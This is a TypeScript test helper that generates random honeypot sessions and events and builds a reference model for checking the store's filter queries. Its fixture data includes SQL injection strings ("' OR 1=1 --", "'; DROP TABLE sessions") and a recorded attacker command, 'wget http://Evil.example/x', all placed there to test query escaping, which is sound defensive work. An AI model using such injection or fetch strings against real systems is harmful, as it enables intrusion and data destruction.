/** Random records, the filters that can be asked of them, and the answers by plain JavaScript over the same records, for tests. */
import { BlockList, isIP } from 'node:net';
import fc from 'fast-check';
import { z } from 'zod';
import { type EventRecord, type SessionRecord, uuidFromName } from '../../events/index.ts';
import { NOWHERE, type Place } from '../enrich/places.ts';
import type { StoreClient } from '../store/client.ts';
import { eventRow, searchText, sessionRow, TABLES } from '../store/rows.ts';
import { makeEvent, makeSession } from '../testing.ts';
import { type Asking, type Filter, filterOf, filterQuery } from './filter.ts';
import type { Names } from './records.ts';

export interface Kept<Item> {
  record: Item;
  sensorId: string;
  place: Place;
}
export interface Dataset {
  sessions: Kept<SessionRecord>[];
  events: Kept<EventRecord>[];
}

const START = Date.UTC(2026, 9, 30, 20);
const HOURS = 60;
export const at = (minutes: number): string => new Date(START + minutes * 60_000).toISOString();

/** Texts that a careless query would trip over. */
const HOSTILE = [
  "' OR 1=1 --",
  '\\',
  "\\'; DROP TABLE sessions",
  'a\0b',
  'new\nline',
  'tab\ttab',
  '{p0:String}',
  '%_%',
  '\u{1f600} é',
  '"',
  '\\x41',
  '\\N',
  '\u2028',
] as const;
const NAMES_OF_USERS = ['root', 'sa', 'Admin', '', null, ...HOSTILE] as const;
const PASSWORDS = ['123456', '', null, 'P@ss', ...HOSTILE] as const;
const PROTOCOLS = ['ftp', 'mssql', 'http', '', "we'ird"] as const;
const SENSORS = ['0199aaaa-0000-7000-8000-000000000001', 'imported', "o'brien"] as const;
/** The first sensor is one of ours; its name is the name of another in imported records. */
export const SENSOR_NAMES: Names = new Map([[SENSORS[0], 'imported']]);
const ADDRESSES = [
  '198.51.100.7',
  '198.51.100.200',
  '203.0.113.9',
  '2001:db8::1',
  '2001:db8:1::77',
  '2001:db9::',
  null,
] as const;
const COUNTRIES = ['US', 'NL', 'unknown'] as const;
const HASHES = ['a'.repeat(64), 'b'.repeat(64)] as const;
const TAGS = ['scanner', "it's", 'mirai'] as const;
const PORTS = [21, 1433, 65_535, 0, null] as const;
const NETWORKS = [64_496, 4_200_000_000, null] as const;

const pick = <Value>(values: readonly Value[]): fc.Arbitrary<Value> => fc.constantFrom(...values);

const placeOf = (address: string | null, country: string, asn: number | null): Place =>
  address === null
    ? NOWHERE
    : { ...NOWHERE, country, city: country === 'NL' ? 'Delft' : '', asn, as_org: asn === null ? '' : `AS ${asn}` };

const eventBody: fc.Arbitrary<Pick<EventRecord, 'type' | 'fields'>> = fc.oneof(
  fc.record({
    type: fc.constant('auth.attempt'),
    fields: fc.record({
      username: pick(NAMES_OF_USERS),
      password: pick(PASSWORDS),
      mechanism: fc.constant('plain'),
      accepted: fc.boolean(),
    }),
  }),
  fc.record({
    type: fc.constant('command.input'),
    fields: fc.record({ command: pick(['wget http://Evil.example/x', 'id', ...HOSTILE]) }),
  }),
  fc.record({
    type: fc.constant('file.captured'),
    fields: fc.record({
      sha256: pick(HASHES),
      sha1: fc.constant('c'.repeat(40)),
      md5: fc.constant('d'.repeat(32)),
      bytes: fc.constant(7),
      name: pick(['x.sh', "q'.exe"]),
      via: pick(['upload', 'shell']),
      truncated: fc.constant(false),
    }),
  }),
);

const sessionWithEvents = fc.record({
  minute: fc.nat({ max: HOURS * 60 - 1 }),
  length: fc.nat({ max: 90 }),
  src_ip: pick(ADDRESSES),
  dst_ip: pick([null, '192.0.2.1']),
  src_port: pick(PORTS),
  dst_port: pick(PORTS),
  protocol: pick(PROTOCOLS),
  honeypot: pick(['sundew', 'dionaea']),
  sensorId: pick(SENSORS),
  country: pick(COUNTRIES),
  asn: pick(NETWORKS),
  tags: fc.subarray([...TAGS]),
  client: pick(['', 'SSH-2.0-Go', ...HOSTILE]),
  events: fc.array(fc.tuple(fc.nat({ max: 90 }), eventBody), { maxLength: 6 }),
});

/** Sessions of two and a half days with their events. */
export const dataset: fc.Arbitrary<Dataset> = fc
  .array(sessionWithEvents, { minLength: 30, maxLength: 60 })
  .map((drafts) => {
    const made: Dataset = { sessions: [], events: [] };
    for (const [index, draft] of drafts.entries()) {
      const { minute, length, events, sensorId, country, asn, ...fields } = draft;
      const id = uuidFromName(`session ${index}`);
      const place = placeOf(fields.src_ip, country, asn);
      const count = (type: string): number => events.filter(([, body]) => body.type === type).length;
      const session = makeSession({
        ...fields,
        id,
        service: fields.protocol,
        started_at: at(minute),
        ended_at: at(minute + length),
        events: events.length,
        logins: count('auth.attempt'),
        commands: count('command.input'),
        files: count('file.captured'),
      });
      made.sessions.push({ record: session, sensorId, place });
      const { src_ip, src_port, dst_ip, dst_port, transport, protocol, service, honeypot } = session;
      const envelope = { src_ip, src_port, dst_ip, dst_port, transport, protocol, service, honeypot };
      const inOrder = events.toSorted(([a], [b]) => a - b);
      for (const [seq, [offset, body]] of inOrder.entries()) {
        const record = makeEvent({
          ...envelope,
          type: body.type,
          fields: { ...body.fields },
          session_id: id,
          seq,
          at: at(minute + Math.min(offset, length)),
        });
        made.events.push({ record, sensorId, place });
      }
    }
    return made;
  });

export async function insertDataset(store: StoreClient, { sessions, events }: Dataset): Promise<void> {
  const receivedAt = at(0);
  const lines = (rows: readonly string[]): string => rows.map((row) => `${row}\n`).join('');
  if (sessions.length > 0)
    await store.insert(
      'sessions',
      TABLES.sessions,
      lines(sessions.map(({ record, ...added }) => sessionRow(record, { ...added, receivedAt }))),
      { token: 'sessions' },
    );
  if (events.length > 0)
    await store.insert(
      'events',
      TABLES.events,
      lines(events.map(({ record, ...added }) => eventRow(record, { ...added, receivedAt }))),
      { token: 'events' },
    );
}

const RANGES = [
  '198.51.100.0/24',
  '198.51.100.7',
  '198.51.100.128/25',
  '0.0.0.0/0',
  '2001:db8::/32',
  '2001:DB8:0:0::1',
  '::/0',
  '',
];
const VALUES: Readonly<Record<string, readonly string[]>> = {
  protocol: [...PROTOCOLS, 'none'],
  service: [...PROTOCOLS, 'none'],
  src_ip: RANGES,
  dst_ip: ['192.0.2.0/24', ''],
  src_port: ['21', '0', '65535', ''],
  dst_port: ['21', '1433', '9', ''],
  country: [...COUNTRIES, ''],
  asn: ['64496', '4200000000', '0', '1'],
  sensor: [...SENSORS, 'nobody'],
  honeypot: ['sundew', 'dionaea', "';"],
  username: [...NAMES_OF_USERS.filter((name) => name !== null), 'nobody'],
  password: [...PASSWORDS.filter((name) => name !== null), 'nothing'],
  tag: [...TAGS, 'none'],
  sha256: [...HASHES, '', 'x'],
  q: ['evil.EXAMPLE', 'http', ...HOSTILE, 'nothing of this'],
};
export const FILTER_NAMES = Object.keys(VALUES);

const condition = (names: readonly string[]): fc.Arbitrary<[string, string[]]> =>
  pick(names).chain((name) =>
    fc.tuple(
      pick(['', '!']).map((suffix) => name + suffix),
      fc.uniqueArray(pick(VALUES[name] as readonly string[]), { minLength: 1, maxLength: 3 }),
    ),
  );

/** A filter as a query string gives it, of up to three of these names and a time. */
export function filterOfNames(names: readonly string[] = FILTER_NAMES): fc.Arbitrary<Filter> {
  const time = fc.option(fc.nat({ max: HOURS * 60 }).map(at), { nil: undefined });
  const schema = z.strictObject(filterQuery);
  return fc
    .tuple(fc.array(condition(names), { maxLength: 3 }), time, time)
    .map(([conditions, from, to]) => filterOf(schema.parse({ ...Object.fromEntries(conditions), from, to })));
}

export const ask = (filter: Filter): Asking & { names: Names } => ({
  filter,
  names: SENSOR_NAMES,
  sensorId: (name) => [...SENSOR_NAMES].find(([, known]) => known === name)?.[0] ?? name,
});

type Value = string | number;

function inRange(address: string | null, given: Value): boolean {
  const [network = '', bits] = String(given).split('/');
  if (address === null || network === '') return address === null && network === '';
  if (network === '::' && bits === '0') return true;
  const family = (text: string): 'ipv4' | 'ipv6' => (isIP(text) === 4 ? 'ipv4' : 'ipv6');
  if (family(network) !== family(address)) return false;
  const list = new BlockList();
  if (bits === undefined) list.addAddress(network, family(network));
  else list.addSubnet(network, Number(bits), family(network));
  return list.check(address, family(address));
}

const sensorIs = (sensorId: string, value: Value): boolean =>
  sensorId === value || SENSOR_NAMES.get(sensorId) === value;

/** Whether an event itself is one of the values. */
function eventIs({ fields, type }: EventRecord, name: string, values: readonly Value[]): boolean {
  switch (name) {
    case 'username':
    case 'password':
      return type === 'auth.attempt' && values.some((value) => fields[name] === value);
    case 'sha256':
      return values.includes(typeof fields.sha256 === 'string' ? fields.sha256 : '');
    default:
      return values.some((value) => searchText(fields).toLowerCase().includes(String(value).toLowerCase()));
  }
}

const OF_EVENTS = new Set(['username', 'password', 'sha256', 'q']);

/** The answers that the store must give. */
export class Model {
  private readonly data: Dataset;
  private readonly sessionsById: Map<string, Kept<SessionRecord>>;
  private readonly eventsById: Map<string, Kept<EventRecord>[]>;

  constructor(data: Dataset) {
    this.data = data;
    this.sessionsById = new Map(data.sessions.map((kept) => [kept.record.id, kept]));
    this.eventsById = Map.groupBy(data.events, ({ record }) => record.session_id ?? '');
  }

  private envelopeIs(
    { record, sensorId, place }: Kept<SessionRecord | EventRecord>,
    name: string,
    values: readonly Value[],
  ): boolean {
    switch (name) {
      case 'src_ip':
      case 'dst_ip':
        return values.some((value) => inRange(record[name], value));
      case 'src_port':
      case 'dst_port':
        return values.includes(record[name] ?? 65_536);
      case 'asn':
        return values.includes(place.asn ?? 0);
      case 'country':
        return values.includes(place.country);
      case 'sensor':
        return values.some((value) => sensorIs(sensorId, value));
      case 'tag': {
        const session = 'tags' in record ? record : this.sessionsById.get(record.session_id ?? '')?.record;
        return values.some((value) => session?.tags.includes(String(value)));
      }
      default:
        return values.includes((record as unknown as Record<string, Value>)[name] as Value);
    }
  }

  private test(filter: Filter, time: string, is: (name: string, values: readonly Value[]) => boolean): boolean {
    if (filter.from !== undefined && time < filter.from) return false;
    if (filter.to !== undefined && time >= filter.to) return false;
    return (
      Object.entries(filter.is).every(([name, values]) => is(name, values)) &&
      !Object.entries(filter.not).some(([name, values]) => is(name, values))
    );
  }

  sessions(filter: Filter): Kept<SessionRecord>[] {
    return this.data.sessions.filter((kept) =>
      this.test(filter, kept.record.started_at, (name, values) => {
        if (!OF_EVENTS.has(name)) return this.envelopeIs(kept, name, values);
        const events = this.eventsById.get(kept.record.id) ?? [];
        return events.some(
          ({ record }) => (filter.from === undefined || record.at >= filter.from) && eventIs(record, name, values),
        );
      }),
    );
  }

  events(filter: Filter): Kept<EventRecord>[] {
    return this.data.events.filter((kept) =>
      this.test(filter, kept.record.at, (name, values) =>
        OF_EVENTS.has(name) ? eventIs(kept.record, name, values) : this.envelopeIs(kept, name, values),
      ),
    );
  }
}
